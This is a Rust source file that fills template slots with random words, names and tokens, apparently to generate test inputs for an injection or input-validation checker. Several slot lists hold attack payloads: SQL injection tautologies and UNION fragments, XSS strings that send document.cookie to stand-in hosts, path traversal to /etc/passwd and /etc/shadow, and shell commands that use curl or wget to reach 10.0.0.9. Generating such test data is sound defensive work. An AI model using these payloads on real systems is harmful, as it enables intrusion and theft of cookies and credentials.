//! What the slots of a form are filled with.

use fastrand::Rng;

/// Fills every slot of a form.
pub(super) fn filled(form: &str, rng: &mut Rng) -> String {
    let mut out = String::new();
    let mut rest = form;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        rest = &rest[open..];
        let slot = rest[1..].find('}').map(|end| &rest[1..=end]);
        match slot.and_then(|slot| Some((slot, drawn(slot, rng)?))) {
            Some((slot, value)) => {
                // Some slots are made of others.
                out.push_str(&filled(&value, rng));
                rest = &rest[slot.len() + 2..];
            }
            None => {
                out.push('{');
                rest = &rest[1..];
            }
        }
    }
    out + rest
}

fn drawn(slot: &str, rng: &mut Rng) -> Option<String> {
    let list: &[&str] = match slot {
        "name" => &[
            "anna", "bob", "chloe", "dmitri", "eve", "farid", "grace", "henrik",
        ],
        "Name" => &[
            "Brien", "Angelo", "Donald", "Smith", "Mara", "Keeffe", "Arcy", "Meyer",
        ],
        "word" => &[
            "lamp", "table", "river", "order", "shoes", "garden", "system", "window", "users",
            "price", "cat", "script", "image", "union", "list", "id", "event", "host", "music",
        ],
        "Word" => &[
            "Lamp",
            "Disco",
            "Union",
            "Selection",
            "Users",
            "Script",
            "Order",
            "Cat",
        ],
        "verb" => &[
            "drop", "sleep", "fix", "select", "open", "kill", "find", "update", "alert",
        ],
        "city" => &[
            "berlin", "paris", "oslo", "lagos", "kyoto", "quito", "austin",
        ],
        "given" => &[
            "Siobhán", "Jean-Luc", "Yuki", "Nguyễn", "Søren", "Anna", "Mbali", "Łukasz", "José",
            "Li", "Fatima", "Drew", "Alice", "Ivan", "Noor", "Zoë",
        ],
        "Sur" => &[
            "O'Brien",
            "D'Angelo",
            "O'Neil",
            "McDonald",
            "Al-Sa'ud",
            "N'Golo",
            "Dell'Acqua",
            "L'Écuyer",
            "O’Connor",
            "Müller",
            "García Márquez",
            "Ng",
            "Or",
            "Null",
            "And",
            "Select",
            "Union",
            "Van 't Hof",
            "Mac an tSaoir",
            "D'Or",
            "O'Order",
            "T'Pol",
            "Knowles-Carter",
            "Ó Súilleabháin",
            "Smith",
            "Cat",
            "Script",
        ],
        "thing" => &[
            "lamp", "table", "cat", "id", "image", "union", "script", "host", "invoice", "drop",
            "select", "shell", "echo", "group", "order", "where", "from", "sleep", "null",
            "coffee", "admin", "user", "window", "eval", "bash", "kill", "more", "less", "top",
            "env", "who", "config", "passwd", "onload", "href", "style", "body", "frame", "form",
            "like", "having", "café", "naïve", "größe", "日本", "log4j",
        ],
        "town" => &[
            "Coeur d'Alene",
            "St. John's",
            "Nuku'alofa",
            "Xi'an",
            "L'Aquila",
            "Berlin",
            "São Paulo",
            "Union City",
            "Sleepy Eye",
            "Or Yehuda",
            "Winston-Salem",
            "Truth or Consequences",
        ],
        "V" => &["", "1", "x", "admin", "foo", "42", "test", "john", "abc"],
        "T" => &[
            "1=1", "2=2", "1 = 1", "'a'='a'", "7>3", "1<2", "'x'='x'", "3=3", "1 like 1",
        ],
        "F" => &["1=2", "1=0", "'a'='b'", "3>7", "5=6"],
        "C" => &["--", "-- ", "-- -", "#", "/*", "--+", ";--", " -- x"],
        "L" => &[
            "1,2,3",
            "null,null",
            "username,password",
            "1,user(),3",
            "@@version,2",
            "1,group_concat(name),3",
            "null,concat(login,0x3a,pass),null",
        ],
        "TAB" => &["users", "accounts", "members", "admin_users", "products"],
        "P" => &[
            "alert(1)",
            "alert`1`",
            "alert(document.cookie)",
            "confirm(1)",
            "prompt(document.domain)",
            "eval(atob('YQ=='))",
            "alert(String.fromCharCode(88,83,83))",
            "top['al'+'ert'](1)",
            "window['alert'](1)",
            "document.location='//h.example/'+document.cookie",
            "fetch('//h.example/'+document.cookie)",
            "(alert)(1)",
        ],
        "H" => &["evil.example", "h.example", "10.0.0.9", "x.example"],
        "E" => &["div", "p", "a", "b", "span", "img", "custom"],
        "HND" => &[
            "onclick",
            "onmouseover",
            "onpointerenter",
            "onanimationend",
            "onwheel",
            "oncopy",
        ],
        "UP" => &[
            "../../",
            "../../../",
            "../../../../../../",
            "../../../../../../../../../",
        ],
        "WUP" => &["..\\..\\", "..\\..\\..\\", "..\\..\\..\\..\\..\\..\\"],
        "UF" => &[
            "etc/passwd",
            "etc/shadow",
            "etc/hosts",
            "proc/self/environ",
            "var/log/syslog",
        ],
        "WF" => &[
            "windows\\win.ini",
            "boot.ini",
            "windows\\system32\\drivers\\etc\\hosts",
        ],
        "D" => &["report", "index", "upload", "main", "backup"],
        "CMD" => &[
            "id",
            "whoami",
            "ls",
            "ls -la",
            "cat /etc/passwd",
            "uname -a",
            "ping -c 1 10.0.0.9",
            "wget http://10.0.0.9/x",
            "curl http://10.0.0.9/x",
            "nslookup h.example",
            "sleep 5",
            "pwd",
        ],
        "CMDX" => &[
            "whoami",
            "ls -la",
            "cat /etc/passwd",
            "uname -a",
            "curl http://10.0.0.9/x",
            "ping -c 3 10.0.0.9",
            "rm -rf /tmp/x",
            "wget http://10.0.0.9/x",
            "id;uname -a",
        ],
        "IP" => &["127.0.0.1", "10.0.0.9", "8.8.8.8", "192.0.2.7"],
        "LF" => &["\n"],
        "CR" => &["\r"],
        "TB" => &["\t"],
        "NUL" => &["\0"],
        _ => return made(slot, rng),
    };
    Some(list[rng.usize(..list.len())].to_owned())
}

/// Slots that are not lists.
fn made(slot: &str, rng: &mut Rng) -> Option<String> {
    let mut number = |range: std::ops::Range<u32>| rng.u32(range);
    Some(match slot {
        "num" => number(1..2000).to_string(),
        "N" | "n2" => number(1..99).to_string(),
        "M" => number(100..999).to_string(),
        "d" => format!("{:02}", number(1..29)),
        "h" => format!("{:02}", number(0..24)),
        "m" => format!("{:02}", number(1..13)),
        "email" => "{name}.{Name}@example.com".to_owned(),
        "hex" => format!("{:08x}{:08x}", rng.u32(..), rng.u32(..)),
        "uuid" => format!(
            "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}",
            rng.u32(..),
            rng.u16(..),
            rng.u16(..0x1000),
            rng.u16(..0x1000),
            rng.u64(..1 << 48)
        ),
        "b64" => (0..rng.usize(8..40))
            .map(|_| {
                let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                char::from(alphabet[rng.usize(..64)])
            })
            .collect(),
        _ => return None,
    })
}
